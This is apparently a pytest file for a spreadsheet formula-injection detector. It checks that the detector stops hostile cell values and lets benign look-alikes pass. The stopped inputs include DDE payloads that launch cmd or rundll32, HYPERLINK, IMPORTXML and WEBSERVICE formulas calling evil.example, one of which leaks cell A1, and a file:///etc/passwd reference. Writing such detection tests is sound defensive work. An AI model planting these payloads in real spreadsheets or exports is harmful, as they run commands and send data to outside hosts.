"""Formulas for a spreadsheet, and what only starts like one."""

from __future__ import annotations

import pytest
from tests.support.suspects import STOPS, Suspects

from vallum.inspection.detectors.formula import DETECTOR

SUSPECTS = Suspects(DETECTOR)


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("=cmd|'/C calc'!A0", "formula.dde"),
        ("+cmd|' /C notepad'!A1", "formula.dde"),
        ("-2+3+cmd|' /C calc'!A0", "formula.dde"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "formula.dde"),
        ("\t=rundll32|'URL.dll,OpenURL calc.exe'!A", "formula.dde"),
        ("x\",\"=cmd|'/C calc'!A0", "formula.dde"),
        ('=HYPERLINK("http://evil.example?x="&A1,"click")', "formula.fetch"),
        ('=importxml("http://evil.example","//a")', "formula.fetch"),
        ('="1"&WEBSERVICE("http://evil.example")', "formula.fetch"),
        ('+HYPERLINK("http://evil.example","x")', "formula.fetch"),
        ('\uff1dHYPERLINK("http://evil.example")', "formula.fetch"),
        ("='file:///etc/passwd'#$passwd.A1", "formula.file"),
        ("=SUM(A1:A9)", "formula.function"),
        ("@SUM(A1)", "formula.function"),
    ],
)
def test_formulas_are_stopped(text: str, rule: str) -> None:
    assert rule in [each.rule for _, each in SUSPECTS.judge(text, "body") if each.score >= STOPS]


@pytest.mark.parametrize(
    "text",
    [
        "+49 170 1234567",
        "+1 (555) 010-9999",
        "-12.50",
        "-- \nBest regards,\nAnna",
        "@alice can you look (again)?",
        "=)",
        "- item one\n- sum of two (see notes)",
        "-sum(x)",
        "@max(3)",
        "+call(me)",
        "+if (you want)",
        "=== if (x) ===",
        "- cmd | foo!",
        "-webkit-image(x)",
        "@media (max-width: 3px)",
        "foo;-abs(x)",
        "E = m c^2",
    ],
)
def test_what_only_starts_like_one_passes(text: str) -> None:
    assert SUSPECTS.score(text, "body") < STOPS
